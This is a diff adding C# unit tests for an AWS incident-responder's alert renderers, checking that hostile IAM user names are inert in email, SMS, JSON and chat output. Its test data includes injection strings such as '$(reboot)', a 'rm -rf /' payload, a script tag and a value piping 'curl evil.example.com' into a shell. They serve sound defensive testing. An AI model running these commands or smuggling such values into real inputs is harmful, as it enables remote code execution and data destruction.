@@ -1,0 +1,139 @@
+using System.Text.Json;
+using System.Text.RegularExpressions;
+using FsCheck;
+using FsCheck.Fluent;
+using Responder.Containment;
+using Responder.Decisions;
+using Responder.Detections;
+using Responder.Events;
+using Responder.Facts;
+using Responder.Notifications;
+using Responder.Tests.Support;
+using static Responder.Tests.Support.EventBuilder;
+
+namespace Responder.Tests.Notifications;
+
+/// <summary>Every rendering of the page: SNS's rules hold whatever the names are, and no name acts on its reader.</summary>
+public sealed partial class AlertTests
+{
+    public static TheoryData<string> HostileNames { get; } =
+    [
+        "mallory\nSubject: [LOW] nothing", "\u202Egnp.exe", "\u001b[2J\u001b[31mred", "a`*_~b", "<!channel>", "<script>alert(1)</script>", "@here",
+        "[link](https://example.com)", "{{inject}}", "$(reboot)", "'; rm -rf / #", "ünïcödé-名前", "\u0000", "\ud83d\ude00", "x y\u2028z", new string('a', 2048), "…", "",
+    ];
+
+    [Fact]
+    public void The_page_reads_as_promised()
+    {
+        var page = AlertText.Render(AlertFor("mallory"));
+        Assert.Equal(
+            """
+            CRITICAL: AdministratorAccess attached to user mallory (contained).
+            """, page[..page.IndexOf('\n')]);
+        var order = ((string[])["WHAT WAS DONE", "done:     PutUserPermissionsBoundary", "WHO, TO WHOM, WHERE, WHEN", "arn:aws:iam::123456789012:user/alice", "203.0.113.11",
+            "MFA:", "target:", "us-east-1", "2026-03-04 09:01:07Z, 3 s before this page", "WHAT TO DO NOW",
+            "responder release /security/incidents/2026-03-04/event-1", "LINKS", "Incident event-1"]).Select(text => page.IndexOf(text, StringComparison.Ordinal)).ToArray();
+        Assert.DoesNotContain(-1, order);
+        Assert.Equal(order.Order(), order);
+    }
+
+    [Fact]
+    public void The_subject_reads_as_promised() =>
+        Assert.Equal("[CRITICAL] AdministratorAccess attached to user mallory (contained) 123456789012", AlertFor("mallory").Subject);
+
+    [Theory]
+    [MemberData(nameof(HostileNames))]
+    public void A_hostile_name_is_inert_in_every_rendering(string name)
+    {
+        var alert = AlertFor(name);
+        AssertSubject(alert.Subject);
+        Assert.EndsWith("(contained) 123456789012", alert.Subject, StringComparison.Ordinal);
+
+        var text = AlertText.Render(alert);
+        Assert.DoesNotContain(text, static c => char.IsControl(c) && c != '\n');
+        Assert.DoesNotMatch(Invisible(), text);
+        if (name.Contains('\n')) Assert.DoesNotContain("\nSubject:", text, StringComparison.Ordinal);
+
+        var sms = AlertSms.Render(alert);
+        Assert.True(sms.Length <= 140 && sms.All(static c => c is >= ' ' and < (char)127), sms);
+
+        using var json = JsonDocument.Parse(AlertJson.Render(alert));
+        Assert.Equal("responder.alert/1", json.RootElement.GetProperty("schema").GetString());
+        Assert.True(json.RootElement.GetProperty("contained").GetBoolean());
+
+        using var chat = JsonDocument.Parse(AlertChat.Render(alert));
+        var content = chat.RootElement.GetProperty("content");
+        Assert.DoesNotContain('<', content.GetProperty("description").GetString()!);
+        var outsideCode = CodeSpan().Replace(content.GetProperty("description").GetString()!, "");
+        Assert.DoesNotContain(outsideCode, static c => c is '[' or '@' or '_' or '~' or '#');
+        Assert.DoesNotContain("here", content.GetProperty("title").GetString()!, StringComparison.Ordinal);
+        Assert.Equal(alert.DedupKey, chat.RootElement.GetProperty("metadata").GetProperty("threadId").GetString());
+    }
+
+    [Fact]
+    public void Property_no_name_breaks_the_subject_or_the_sms() => Prop.ForAll(ArbMap.Default.ArbFor<string?>(), name =>
+    {
+        var alert = AlertFor(name ?? "");
+        AssertSubject(alert.Subject);
+        Assert.True(AlertSms.Render(alert).Length <= 140);
+        Assert.All(AlertJson.Render(alert), static c => Assert.True(c is >= ' ' and < (char)127));
+    }).QuickCheckThrowOnFailure();
+
+    [Fact]
+    public void A_command_cannot_be_broken_out_of()
+    {
+        var alert = AlertFor("x'; curl evil.example.com | sh; '", contained: false);
+        var page = AlertText.Render(alert);
+        Assert.Contains("""--user-name 'x'\''; curl evil.example.com | sh; '\''' --permissions-boundary""", page, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_failed_containment_shouts()
+    {
+        var alert = AlertFor("mallory", step: new ContainmentStep("PutUserPermissionsBoundary", "mallory", StepResult.Failed, "PutUserPermissionsBoundary: AccessDenied: no"));
+        Assert.Contains("(containment FAILED)", alert.Subject, StringComparison.Ordinal);
+        var page = AlertText.Render(alert);
+        Assert.Contains("FAILED:   PutUserPermissionsBoundary on mallory (PutUserPermissionsBoundary: AccessDenied: no)", page, StringComparison.Ordinal);
+        Assert.Contains("Contain by hand what failed:  aws iam put-user-permissions-boundary --user-name mallory", page, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("cn-north-1", "aws-cn", "console.amazonaws.cn")]
+    [InlineData("us-gov-west-1", "aws-us-gov", "console.amazonaws-us-gov.com")]
+    public void Links_and_commands_follow_the_partition(string region, string partition, string host)
+    {
+        var identity = User("alice");
+        identity["arn"] = $"arn:{partition}:iam::123456789012:user/alice";
+        var alert = AlertFor(AdminAttachedTo("mallory", $"arn:{partition}:iam::aws:policy/AdministratorAccess").With("awsRegion", region).By(identity), contained: false);
+        var page = AlertText.Render(alert);
+        Assert.Contains(host, page, StringComparison.Ordinal);
+        Assert.Contains($"arn:{partition}:iam::aws:policy/AWSDenyAll", page, StringComparison.Ordinal);
+    }
+
+    private static void AssertSubject(string subject)
+    {
+        Assert.InRange(subject.Length, 1, 99);
+        Assert.All(subject, static c => Assert.True(c is >= ' ' and < (char)127));
+        Assert.True(char.IsAsciiLetterOrDigit(subject[0]) || char.IsPunctuation(subject[0]));
+    }
+
+    private static Alert AlertFor(string name, bool contained = true, ContainmentStep? step = null) => AlertFor(AdminAttachedTo(name).Id("event-1"), contained, step);
+
+    private static Alert AlertFor(EventBuilder builder, bool contained = true, ContainmentStep? step = null)
+    {
+        var e = EventParser.Parse(builder.Build()).Event!;
+        var facts = KnownFacts.None(DetectionCatalog.Default.Detect(e), CalledAt.AddSeconds(2));
+        var decision = new Decider(contained ? new ResponderOptions() : new ResponderOptions { Mode = Mode.Observe }).Decide(e, facts, EventBuilder.Account);
+        var steps = step ?? new ContainmentStep("PutUserPermissionsBoundary", decision.Target?.Name ?? "?", StepResult.Succeeded) { Subject = DenyAll };
+        var result = decision.Action == DecisionAction.Contain ? new ContainmentResult(decision, [steps], new PriorState("", [Admin])) : ContainmentResult.Nothing(decision);
+        if (decision.Target is null) // an empty user name: nobody to contain, the page must still be sound
+            result = new ContainmentResult(decision with { Action = DecisionAction.Contain }, [steps], new PriorState("", []));
+        return new Alert(result, CalledAt.AddSeconds(3), "/security/incidents/2026-03-04/event-1", null) { HomeRegion = "us-east-1" };
+    }
+
+    [GeneratedRegex(@"[\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069\ufeff]")]
+    private static partial Regex Invisible();
+
+    [GeneratedRegex("`[^`]*`|\\*[A-Z]+\\*|\\*\\([a-zA-Z ]+\\)\\*")]
+    private static partial Regex CodeSpan();
+}
